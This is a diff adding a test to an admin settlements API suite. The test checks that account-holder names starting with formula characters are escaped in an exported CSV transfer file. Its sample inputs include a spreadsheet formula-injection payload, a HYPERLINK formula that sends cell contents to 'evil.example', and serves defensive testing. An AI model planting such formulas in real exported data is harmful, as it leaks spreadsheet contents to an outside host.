@@ -310,6 +310,35 @@ describe('/api/admin/settlements', () => {
     const lines = response.body.replace('\uFEFF', '').trim().split('\r\n');
     expect(lines[0]).toBe('bank,holder,account,amount,statementId');
     expect(lines).toContain(`국민은행,홍길동,1002${creator.id},36000,${statementId}`);
+
+    // A holder that a spreadsheet would read as a formula is written as text.
+    const formulas = ['=HYPERLINK("https://evil.example/?"&C2,"확인")', '+1+2', '-3', '@SUM(1)', '\tx', '\rx'];
+    for (const holder of formulas) {
+      const writer = await createIncomeCreator(app());
+      await db()
+        .updateTable('creators')
+        .set({ bank_account_holder: holder })
+        .where('id', '=', writer.creatorId)
+        .execute();
+      await releasedMission(db(), { creatorId: writer.creatorId, coins: 600, at: inMonth(2025, 6) });
+    }
+    expect(
+      (await send('POST', '/api/admin/settlement-runs', finance.headers, { year: 2025, month: 6 })).statusCode,
+    ).toBe(200);
+    const june = (await get('/api/admin/settlements/transfer-file?year=2025&month=6', finance.headers)).body;
+    const holders = june
+      .replace('\uFEFF', '')
+      .split('\r\n')
+      .slice(1, -1)
+      .map((line) => line.split(',')[1]);
+    expect(holders).toHaveLength(formulas.length);
+    for (const holder of holders) expect(holder).toMatch(/^"?'/);
+    expect(june).toContain(`"'=HYPERLINK(""https://evil.example/?""&C2`);
+    expect(june).toContain(`,'+1+2,`);
+    expect(june).toContain(`,'-3,`);
+    expect(june).toContain(`,'@SUM(1),`);
+    expect(june).toContain(`,'\tx,`);
+    expect(june).toContain(`,"'\rx",`);
     expect((await get('/api/admin/settlements/transfer-file?year=2025', finance.headers)).statusCode).toBe(400);
     expect((await get('/api/admin/settlements/transfer-file?year=2025&month=3', operator.headers)).statusCode).toBe(
       403,
